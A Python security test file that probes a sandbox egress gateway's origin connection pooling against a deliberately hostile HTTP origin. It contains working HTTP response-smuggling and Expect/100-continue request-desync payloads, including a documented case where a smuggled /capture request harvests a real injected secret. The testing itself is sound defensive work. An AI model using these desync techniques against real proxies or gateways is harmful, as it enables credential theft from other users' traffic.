#!/usr/bin/python3
"""
Probe: origin connection reuse (the worker's pool, keep-alive on both
sides) against a hostile ORIGIN and two sandboxes.

SPEC §4: "An origin connection serves only the decision it was opened for
(sandbox, host, port, checked address, TLS or not): a request or tunnel
with another decision gets a new one." docs/protocols.md "Framing is the
gateway's own": "Bytes an origin sends past the end of its response close
that origin connection; they never answer the next request."
docs/config.md upstream.keepalive_timeout: "Never another sandbox's,
another host's or another address's."

Set-up: sandbox box-a (source 127.0.0.1, credential `key` bound to
bound.test with a fixed placeholder), box-b (source 127.0.0.3, same hosts,
no credential), box-t (Proxy-Authorization token only). One hand-written
HTTP/1.1 origin (plain for evil.test, TLS for bound.test) that records
every request per TCP connection and misbehaves by path; every ordinary
answer names the origin connection it came on, every hostile extra is
"SMUGGLED" (over TLS it also reflects the Authorization it was sent).

Tried, after each hostile answer a second request from the same client
connection, one from the other sandbox, and (TLS) one with the
placeholder: a second full response appended past Content-Length (same
write, and 300 ms later once the connection sits in the pool); HEAD
answered with a body; 204 and 304 with a body; 100-continue, a final
answer, then another; HTTP/1.0 + "Connection: keep-alive" with bytes past
its length; a read-to-close answer that then stays open and sends more; an
answer before the request body (then the rest read; then another answer);
pipelining to two allowed hosts, and allowed then denied; one client
connection switching Proxy-Authorization between sandboxes; box-b sending
box-a's placeholder; an Expect desync (a 401 instead of 100, the body sent
after it, then the next request with the placeholder). Audit rows checked for the sandbox of each request.

Found (fails): test_tls_early_answer_connection_not_kept_for_secret -- an
HTTP/1.1 origin connection that answered before the request body ended IS
kept and reused (docs/config.md says "never kept"); with an origin that
answers `Expect: 100-continue` with a final status and takes the body for
the next request, the sandbox's next request -- the real secret swapped
into Authorization -- becomes the body of a request the sandbox smuggled,
stored at the origin.

Held (all of the rest): extra bytes never reached any client; the next
request after bytes past an answer always went out on a fresh origin
connection (or the client connection was closed); no origin connection ever carried requests of two
sandboxes; the secret never reached an origin connection box-b used, nor
box-b's client; box-b's use of the placeholder is 403 credential-misuse;
pipelined requests each went to their own origin, the denied one to none;
audit rows name the sandbox of each request.
(HTTP/2 coalescing -- a stream naming another host inside a tunnel -- is
test_http2.test_authority_not_sni / test_smuggle_probe: host-mismatch.)
"""

import os
import ssl
import sys
import time
import unittest

sys.dont_write_bytecode = True  # keep the source tree clean
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import sgtest as T  # noqa: E402
import test_credentials as C  # noqa: E402  (its test CA)

HOST = "127.0.0.2"
SRC_B = "127.0.0.3"
SECRET = "sk-pool-probe-Secret-0123456789abcdefXYZ"
PH = "sgtest-pool-placeholder-000000001"
TOKEN_T = "pool-probe-token-t-0123456789"
SMUG_BODY = b"SMUGGLED-ANSWER"

POLICY = """\
sandboxes:
  - id: box-a
    policy: pa
    source: [127.0.0.1/32]
  - id: box-b
    policy: pb
    source: [127.0.0.3/32]
  - id: box-t
    policy: pb
    token_sha256: "{tok}"
policies:
  - name: pa
    allow:
      - host: evil.test
        ports: [{plain}]
      - host: other.test
        ports: [{plain}]
      - host: bound.test
        ports: [{tls}]
        tls: intercept
    allow_private: [{host}/32]
    credentials: [key]
  - name: pb
    allow:
      - host: evil.test
        ports: [{plain}]
      - host: other.test
        ports: [{plain}]
      - host: bound.test
        ports: [{tls}]
        tls: intercept
    allow_private: [{host}/32]
credentials:
  - name: key
    secret: pool-secret
    hosts: [bound.test]
    placeholder: "{ph}"
"""


def _read_head(f):
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        line = f.readline(65537)
        if not line:
            return None
        if head == b"" and line in (b"\r\n", b"\n"):
            continue
        head += line
    return head


class Hostile(T.Listener):
    """
    An HTTP/1.1 origin (plain, or TLS with ctx) that records every request
    with the number of the TCP connection it came on, and answers by the
    first path segment:
      extra   the answer, then a second whole response in the same write
      late    the answer; 300 ms later a second whole response
      head    (HEAD) 200 with a Content-Length and a body: a response
      n204    204 followed by a response
      n304    304 (Content-Length) followed by a response
      cont    100 Continue, the answer, then a second response
      h10     HTTP/1.0 + Connection: keep-alive, the answer, then more
      eof     200 with no length, "partial", stays open, later more
      early   the answer before reading the body, then the body
      earlyx  as early, then a second response once the body is in
      exp     with Expect: 401 at once, the body never read (the next
              bytes are parsed as the next request: an Expect desync)
      *       the answer: 200, body "conn=N path=P"
    The hostile extra is SMUG (X-Smuggled: 1, body SMUGGLED-ANSWER and
    the Authorization this connection was sent).
    """

    def __init__(self, ctx=None):
        self.ctx = ctx
        self.reqs = []      # dicts: conn, method, path, head, body
        self.raw = {}       # conn -> bytes received
        super().__init__(HOST)

    def smug(self, auth):
        body = SMUG_BODY + b" auth=" + auth.encode("latin-1")
        return (b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nX-Smuggled: 1\r\n"
                b"\r\n" % len(body)) + body

    @staticmethod
    def answer(idx, path, version=b"HTTP/1.1", extra=b""):
        body = ("conn=%d path=%s" % (idx, path)).encode()
        return (version + b" 200 OK\r\n" + extra + b"Content-Length: %d\r\n"
                b"\r\n" % len(body)) + body

    def _body(self, f, hm):
        if "chunked" in hm.get("transfer-encoding", "").lower():
            body = b""
            while True:
                line = f.readline(65537)
                body += line
                n = int(line.split(b";")[0].strip(), 16)
                if n == 0:
                    while True:
                        t = f.readline(65537)
                        body += t
                        if t in (b"\r\n", b"\n", b""):
                            return body
                body += f.read(n + 2)
        n = int(hm.get("content-length", "0"))
        return f.read(n) if n else b""

    def serve(self, c, idx):
        c.settimeout(20)
        if self.ctx is not None:
            c = self.ctx.wrap_socket(c, server_side=True)
        f = c.makefile("rb")
        auth = ""
        while True:
            head = _read_head(f)
            if head is None:
                return
            with self.lock:
                self.raw[idx] = self.raw.get(idx, b"") + head
            lines = head.decode("latin-1").split("\r\n")
            method, path, _ = lines[0].split(" ", 2)
            hm = {}
            for l in lines[1:]:
                if ":" in l:
                    k, v = l.split(":", 1)
                    hm[k.strip().lower()] = v.strip()
            auth = hm.get("authorization", auth)
            kind = path.split("/")[1].split("-")[0] if "/" in path else ""
            rec = {"conn": idx, "method": method, "path": path, "head": head,
                   "hmap": hm, "body": b""}
            with self.lock:
                self.reqs.append(rec)
            ans = self.answer(idx, path)
            if kind == "exp" and "expect" in hm:
                # a final answer instead of 100, body never read: the
                # next bytes on this connection are the next request
                c.sendall(b"HTTP/1.1 401 Unauthorized\r\n"
                          b"Content-Length: 0\r\n\r\n")
                continue
            if kind in ("early", "earlyx"):
                c.sendall(ans)
                rec["body"] = self._body(f, hm)
                if kind == "earlyx":
                    time.sleep(0.2)
                    c.sendall(self.smug(auth))
                continue
            rec["body"] = self._body(f, hm)
            with self.lock:
                self.raw[idx] += rec["body"]
            if kind == "extra":
                c.sendall(ans + self.smug(auth))
            elif kind == "late":
                c.sendall(ans)
                time.sleep(0.3)
                c.sendall(self.smug(auth))
            elif kind == "head":
                s = self.smug(auth)
                c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n"
                          % len(s) + s)
            elif kind == "n204":
                c.sendall(b"HTTP/1.1 204 No Content\r\n\r\n" + self.smug(auth))
            elif kind == "n304":
                s = self.smug(auth)
                c.sendall(b"HTTP/1.1 304 Not Modified\r\nContent-Length: %d"
                          b"\r\n\r\n" % len(s) + s)
            elif kind == "cont":
                c.sendall(b"HTTP/1.1 100 Continue\r\n\r\n" + ans +
                          self.smug(auth))
            elif kind == "h10":
                c.sendall(self.answer(idx, path, b"HTTP/1.0",
                                      b"Connection: keep-alive\r\n") +
                          self.smug(auth))
            elif kind == "eof":
                c.sendall(b"HTTP/1.1 200 OK\r\n\r\npartial")
                time.sleep(0.5)
                c.sendall(self.smug(auth))
                time.sleep(3)          # stays open, never ends its answer
                return
            else:
                c.sendall(ans)

    def requests(self):
        with self.lock:
            return [dict(r) for r in self.reqs]

    def conn_of(self, frag):
        got = [r["conn"] for r in self.requests() if frag in r["path"]]
        return got[0] if got else None


class PoolProbe(unittest.TestCase):

    @classmethod
    def setUpClass(cls):
        cls.td = T.TempDir("sgtest-pool-")
        cls.addClassCleanup(cls.td.cleanup)
        d = cls.td.path
        cls.pki = C.TestCA(d)
        crt, key = cls.pki.leaf("bound.test", ["bound.test"])
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(crt, key)
        cls.plain = Hostile()
        cls.addClassCleanup(cls.plain.stop)
        cls.other = Hostile()
        cls.addClassCleanup(cls.other.stop)
        cls.tls = Hostile(ctx)
        cls.addClassCleanup(cls.tls.stop)
        cls.dns = T.Dnsmasq(d, [(n, HOST) for n in (
            "evil.test", "other.test", "bound.test", "denied.test")])
        cls.addClassCleanup(cls.dns.stop)
        # other.test and evil.test share the address; ports tell them apart
        policy = POLICY.format(plain=cls.plain.port, tls=cls.tls.port,
                               host=HOST, ph=PH, tok=T.sha256_hex(TOKEN_T))
        policy = policy.replace(
            "      - host: other.test\n        ports: [%d]" % cls.plain.port,
            "      - host: other.test\n        ports: [%d]" % cls.other.port)
        cls.gw = T.Gateway(d, cls.dns, {"pool.yaml": policy}, extra={
            "upstream": {"ca_bundle": cls.pki.cert}})
        cls.gw.vault_set(("pool-secret", SECRET))
        cls.gw.start()
        cls.addClassCleanup(cls.gw.stop)
        cls.ctx = cls.gw.client_context()

    # ------------------------------------------------------------ helpers

    def settle(self, s=0.5):
        time.sleep(s * T.SLOW)

    def conn(self, source=None):
        c = T.Conn(self.gw.port, source=source)
        self.addCleanup(c.close)
        return c

    def abs_req(self, path, method="GET", host="evil.test", port=None,
                extra="", body=b""):
        port = port or self.plain.port
        h = ("%s http://%s:%d%s HTTP/1.1\r\nHost: %s:%d\r\n%s" %
             (method, host, port, path, host, port, extra))
        if body or method in ("POST", "PUT"):
            h += "Content-Length: %d\r\n" % len(body)
        return (h + "\r\n").encode() + body

    def tunnel(self, source=None):
        c = self.conn(source)
        c.send("CONNECT bound.test:%d HTTP/1.1\r\nHost: bound.test:%d\r\n\r\n"
               % (self.tls.port, self.tls.port))
        r = c.read_response("CONNECT")
        self.assertEqual(r.status, 200, r)
        c.sock = self.ctx.wrap_socket(c.sock, server_hostname="bound.test")
        c.buf = b""
        return c

    def tls_req(self, path, method="GET", extra="", body=b""):
        h = "%s %s HTTP/1.1\r\nHost: bound.test:%d\r\n%s" % (
            method, path, self.tls.port, extra)
        if body or method in ("POST", "PUT"):
            h += "Content-Length: %d\r\n" % len(body)
        return (h + "\r\n").encode() + body

    def try_read(self, c, method="GET"):
        """The final response (1xx skipped), or None when closed."""
        try:
            r = c.read_response(method)
            while 100 <= r.status < 200:
                r = c.read_response(method)
            return r
        except (EOFError, OSError, ValueError, ssl.SSLError):
            return None

    def assert_clean(self, r, what):
        if r is None:
            return
        blob = r.raw_head + r.body
        self.assertNotIn(SMUG_BODY, blob, "%s: smuggled answer relayed: %r"
                         % (what, blob))
        self.assertNotIn(b"X-Smuggled", r.raw_head, what)
        self.assertNotIn(SECRET.encode(), blob, what)

    def assert_answer(self, r, origin, path, what):
        self.assertIsNotNone(r, "%s: no answer" % what)
        self.assert_clean(r, what)
        self.assertEqual(r.status, 200, "%s: %r" % (what, r))
        self.assertIn(("path=%s" % path).encode(), r.body, what)

    def assert_no_shared_conn(self, origin):
        """No origin connection carried requests of two sandboxes."""
        by = {}
        for q in origin.requests():
            sb = "b" if "/sb-b" in q["path"] else (
                 "t" if "/sb-t" in q["path"] else "a")
            by.setdefault(q["conn"], set()).add(sb)
        mixed = {k: v for k, v in by.items() if len(v) > 1}
        self.assertEqual(mixed, {}, "origin connections shared between "
                         "sandboxes: %r" % origin.requests())

    def next_same(self, c, make, origin, tag, hostile_conn, tunnel_fn=None,
                  method="GET"):
        """A second request from box-a: on c if still open, else anew."""
        p = "/ok-%s-next" % tag
        r = None
        try:
            c.send(make(p))
            r = self.try_read(c, method)
        except OSError:
            r = None
        if r is None:
            c2 = tunnel_fn() if tunnel_fn else self.conn()
            r = c2.request(make(p))
        self.assert_answer(r, origin, p, "%s: box-a's next request" % tag)
        got = origin.conn_of(p)
        self.assertNotEqual(got, hostile_conn, "%s: next request went on the "
                            "connection that had sent bytes past its answer"
                            % tag)

    # ------------------------------------------------- plain, absolute form

    def run_plain(self, kind, method="GET", body=b"", extra=True):
        tag = "%s-%d" % (kind, time.monotonic_ns() % 100000)
        p = "/%s-%s" % (kind, tag)
        c = self.conn()
        c.send(self.abs_req(p, method, body=body))
        r = self.try_read(c, method)
        self.assertIsNotNone(r, "%s: no answer" % kind)
        self.assert_clean(r, kind)
        hostile = self.plain.conn_of(p)
        self.settle(0.6)
        self.next_same(c, lambda q: self.abs_req(q), self.plain, tag,
                       hostile if extra else None)
        pb = "/ok-sb-b-%s" % tag
        rb = self.conn(SRC_B).request(self.abs_req(pb))
        self.assert_answer(rb, self.plain, pb, "%s: box-b" % kind)
        self.assertNotEqual(self.plain.conn_of(pb), hostile, kind)
        self.assert_no_shared_conn(self.plain)
        return r

    def test_extra_response_same_write(self):
        """Second response appended past Content-Length (one write)."""
        r = self.run_plain("extra")
        self.assertEqual(r.status, 200)

    def test_extra_response_later_while_pooled(self):
        """The second response comes 300 ms later, the connection kept."""
        self.run_plain("late")

    def test_head_with_body(self):
        self.run_plain("head", "HEAD")

    def test_204_with_body(self):
        self.run_plain("n204")

    def test_304_with_body(self):
        self.run_plain("n304")

    def test_100_final_then_another(self):
        r = self.run_plain("cont")
        self.assertEqual(r.status, 200)

    def test_http10_keepalive_with_extra(self):
        self.run_plain("h10")

    def test_early_answer_then_extra(self):
        """Answer before the body; after the body, another answer."""
        self.run_plain("earlyx", "POST", b"x" * 2000)

    def test_early_answer_origin_reuse_same_sandbox_only(self):
        """An early answer, the body, then box-a and box-b again."""
        self.run_plain("early", "POST", b"y" * 2000, extra=False)

    def test_read_to_close_kept_open(self):
        """A read-to-close answer that never closes: the client gets its
        bytes and the connection is not reused for the next request; the
        later bytes are the body of that answer (no framing to tell)."""
        tag = "eof-%d" % (time.monotonic_ns() % 100000)
        p = "/eof-%s" % tag
        c = self.conn()
        c.send(self.abs_req(p))
        head = c.read_until(b"\r\n\r\n")
        self.assertIn(b"200", head.split(b"\r\n")[0])
        self.assertIn(b"connection: close", head.lower())
        self.assertNotIn(b"content-length", head.lower())
        hostile = self.plain.conn_of(p)
        pb = "/ok-sb-b-%s" % tag
        rb = self.conn(SRC_B).request(self.abs_req(pb))
        self.assert_answer(rb, self.plain, pb, "eof: box-b")
        self.assertNotEqual(self.plain.conn_of(pb), hostile)
        pa = "/ok-%s-a2" % tag
        ra = self.conn().request(self.abs_req(pa))
        self.assert_answer(ra, self.plain, pa, "eof: box-a again")
        self.assertNotEqual(self.plain.conn_of(pa), hostile)
        self.assert_no_shared_conn(self.plain)

    # ------------------------------------------------- TLS, credential host

    def run_tls(self, kind, method="GET", body=b""):
        tag = "t%s-%d" % (kind, time.monotonic_ns() % 100000)
        p = "/%s-%s" % (kind, tag)
        auth = "Authorization: Bearer %s\r\n" % PH
        c = self.tunnel()
        c.send(self.tls_req(p, method, auth, body))
        r = self.try_read(c, method)
        self.assertIsNotNone(r, "%s: no answer" % kind)
        self.assert_clean(r, kind)
        q = [x for x in self.tls.requests() if x["path"] == p]
        self.assertEqual(q[0]["hmap"].get("authorization"), "Bearer " + SECRET)
        hostile = q[0]["conn"]
        self.settle(0.6)
        self.next_same(c, lambda x: self.tls_req(x, "GET", auth), self.tls,
                       tag, hostile, tunnel_fn=self.tunnel)
        # box-b: no credential, then box-a's placeholder
        pb = "/ok-sb-b-%s" % tag
        cb = self.tunnel(SRC_B)
        rb = cb.request(self.tls_req(pb))
        self.assert_answer(rb, self.tls, pb, "%s: box-b" % kind)
        self.assertNotEqual(self.tls.conn_of(pb), hostile)
        pm = "/ok-sb-b-misuse-%s" % tag
        rm = cb.request(self.tls_req(pm, "GET", auth))
        self.assert_clean(rm, "box-b misuse")
        self.assertEqual(rm.status, 403, rm)
        self.assertEqual(rm.header("X-Sandgate-Reason"), "credential-misuse")
        self.assertIsNone(self.tls.conn_of(pm))
        self.assert_no_shared_conn(self.tls)
        for x in self.tls.requests():
            if "/sb-b" in x["path"]:
                self.assertNotIn(SECRET.encode(), x["head"], x)
        self.settle(0.3)
        rows = self.gw.wait_audit(path=pb)
        self.assertTrue(rows, "no row for box-b's request")
        self.assertEqual((rows[0]["sandbox"], rows[0]["credential"]),
                         ("box-b", None), rows[0])
        rows = self.gw.wait_audit(path=p)
        self.assertEqual((rows[0]["sandbox"], rows[0]["credential"]),
                         ("box-a", "key"), rows[0])

    def test_tls_extra_response_reflecting_secret(self):
        self.run_tls("extra")

    def test_tls_late_response_reflecting_secret(self):
        self.run_tls("late")

    def test_tls_head_with_body(self):
        self.run_tls("head", "HEAD")

    def test_tls_100_final_then_another(self):
        self.run_tls("cont")

    def test_tls_early_answer_then_extra(self):
        self.run_tls("earlyx", "POST", b"z" * 3000)

    def test_tls_early_answer_connection_not_kept_for_secret(self):
        """
        docs/config.md upstream.keepalive_timeout: "An origin that answered
        before the request body ended is never kept (it still waits for
        the rest)." (docs/protocols.md, HTTP/2: "an origin that answered
        before the request body ended is never kept".)

        Sent (box-a, intercepted tunnel to bound.test, credential `key`):
        `POST /exp-T` with `Expect: 100-continue` and Content-Length L,
        head only. The origin answers `401` at once and never reads the
        body (it takes the next bytes for the next request -- the Expect
        desync class). After the 401 the client sends the L body bytes:
        `POST /capture-T HTTP/1.1 / Host / Content-Length: 110` -- no
        placeholder, nothing to refuse. Then, on the same tunnel,
        `GET /ok-T-next` with `Authorization: Bearer <placeholder>`.

        Expected: the early-answering connection is not kept, so the
        request carrying the swapped secret goes out on a new origin
        connection and the secret is never body data of a request the
        sandbox smuggled. Observed: the connection is kept and taken from
        the pool; the swapped request head (real secret in Authorization)
        becomes the body of the smuggled /capture request at the origin,
        and box-a's client gets /capture's answer.
        """
        tag = "texp-%d" % (time.monotonic_ns() % 100000)
        p = "/exp-%s" % tag
        smug = ("POST /capture-%s HTTP/1.1\r\nHost: bound.test:%d\r\n"
                "Content-Length: 110\r\n\r\n" % (tag, self.tls.port)
                ).encode()
        c = self.tunnel()
        c.send("POST %s HTTP/1.1\r\nHost: bound.test:%d\r\nExpect: "
               "100-continue\r\nContent-Length: %d\r\n\r\n" %
               (p, self.tls.port, len(smug)))
        r = self.try_read(c, "POST")
        self.assertIsNotNone(r)
        self.assertEqual(r.status, 401, r)
        c.send(smug)                    # the rest of the body, after it
        self.settle(0.5)
        hostile = self.tls.conn_of(p)
        pn = "/ok-%s-next" % tag
        rn = None
        try:
            c.send("GET %s HTTP/1.1\r\nAuthorization: Bearer %s\r\n"
                   "Host: bound.test:%d\r\n\r\n" % (pn, PH, self.tls.port))
            rn = self.try_read(c)
        except OSError:
            pass
        self.settle(0.5)
        captured = [q for q in self.tls.requests()
                    if q["path"].startswith("/capture-%s" % tag)]
        leaked = [q for q in captured if SECRET.encode() in q["body"]]
        self.assertEqual(leaked, [], "the swapped secret became the body of "
                         "a request the sandbox smuggled in its body: %r; "
                         "box-a's client got %r" % (leaked, rn and rn.body))
        if rn is not None:
            self.assertNotIn(b"/capture-", rn.body, "answer of the "
                             "smuggled request relayed as the next answer")
        self.assertNotEqual(self.tls.conn_of(pn), hostile,
                            "early-answering origin connection kept")

    # ------------------------------------------------- client-side reuse

    def test_pipelined_two_hosts(self):
        """Two absolute-form requests in one write, to evil.test (whose
        answer carries a second response) and other.test."""
        tag = "pipe-%d" % (time.monotonic_ns() % 100000)
        p1, p2 = "/extra-%s" % tag, "/ok-%s-2" % tag
        c = self.conn()
        c.send(self.abs_req(p1) + self.abs_req(p2, host="other.test",
                                                 port=self.other.port))
        r1 = c.read_response()
        r2 = c.read_response()
        self.assert_answer(r1, self.plain, p1, "pipelined 1")
        self.assert_answer(r2, self.other, p2, "pipelined 2")
        self.assertIsNone(self.plain.conn_of(p2))

    def test_pipelined_allowed_then_denied(self):
        tag = "pipd-%d" % (time.monotonic_ns() % 100000)
        p1, p2 = "/extra-%s" % tag, "/ok-%s-denied" % tag
        c = self.conn()
        c.send(self.abs_req(p1) + self.abs_req(p2, host="denied.test",
                                                 port=self.plain.port))
        r1 = c.read_response()
        self.assert_answer(r1, self.plain, p1, "pipelined allowed")
        r2 = self.try_read(c)
        self.assertIsNotNone(r2)
        self.assertEqual(r2.status, 403, r2)
        self.settle()
        self.assertIsNone(self.plain.conn_of(p2))
        self.assertIsNone(self.other.conn_of(p2))

    def test_tunnel_pipelined_extra(self):
        """Inside the credential tunnel: two requests in one write, the
        first answered with a second (secret-reflecting) response."""
        tag = "tpipe-%d" % (time.monotonic_ns() % 100000)
        auth = "Authorization: Bearer %s\r\n" % PH
        p1, p2 = "/extra-%s" % tag, "/ok-%s-2" % tag
        c = self.tunnel()
        c.send(self.tls_req(p1, "GET", auth) + self.tls_req(p2, "GET", auth))
        r1 = c.read_response()
        r2 = c.read_response()
        self.assert_answer(r1, self.tls, p1, "tunnel pipelined 1")
        self.assert_answer(r2, self.tls, p2, "tunnel pipelined 2")

    def test_token_switch_on_one_connection(self):
        """One client connection: box-t by Proxy-Authorization, then no
        Proxy-Authorization (box-a by source), then box-t again; each
        request decided and pooled as its own sandbox."""
        tag = "tok-%d" % (time.monotonic_ns() % 100000)
        pauth = "Proxy-Authorization: %s\r\n" % T.basic("box-t", TOKEN_T)
        pt1, pa, pt2 = ("/ok-sb-t-%s-1" % tag, "/ok-%s-a" % tag,
                        "/ok-sb-t-%s-2" % tag)
        c = self.conn()
        r = c.request(self.abs_req(pt1, extra=pauth))
        self.assert_answer(r, self.plain, pt1, "box-t 1")
        r = c.request(self.abs_req(pa))
        self.assert_answer(r, self.plain, pa, "box-a")
        r = c.request(self.abs_req(pt2, extra=pauth))
        self.assert_answer(r, self.plain, pt2, "box-t 2")
        self.assertNotEqual(self.plain.conn_of(pa), self.plain.conn_of(pt1))
        self.assertNotEqual(self.plain.conn_of(pa), self.plain.conn_of(pt2))
        self.assert_no_shared_conn(self.plain)
        for p, sb in ((pt1, "box-t"), (pa, "box-a"), (pt2, "box-t")):
            rows = self.gw.wait_audit(path=p)
            self.assertTrue(rows, p)
            self.assertEqual(rows[0]["sandbox"], sb, rows[0])
        # never forwarded: the token
        for q in self.plain.requests():
            self.assertNotIn(b"proxy-authorization", q["head"].lower())


if __name__ == "__main__":
    T.main()
